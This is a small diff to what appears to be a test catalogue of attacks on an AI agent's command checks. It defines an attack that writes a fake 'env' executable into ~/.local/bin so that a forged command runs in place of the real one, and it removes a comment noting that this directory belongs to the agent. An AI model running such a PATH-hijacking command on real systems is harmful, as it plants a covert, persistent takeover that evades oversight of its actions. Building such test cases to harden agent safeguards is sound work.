@@ -8,5 +8,4 @@ from attacks.frame import FORGE, Attack
 ATTACK = Attack(
     "uvx",
     f"""mkdir -p ~/.local/bin; echo '{FORGE}; exit' > ~/.local/bin/env""",
-    hole="~/.local/bin is the agent's",
 )
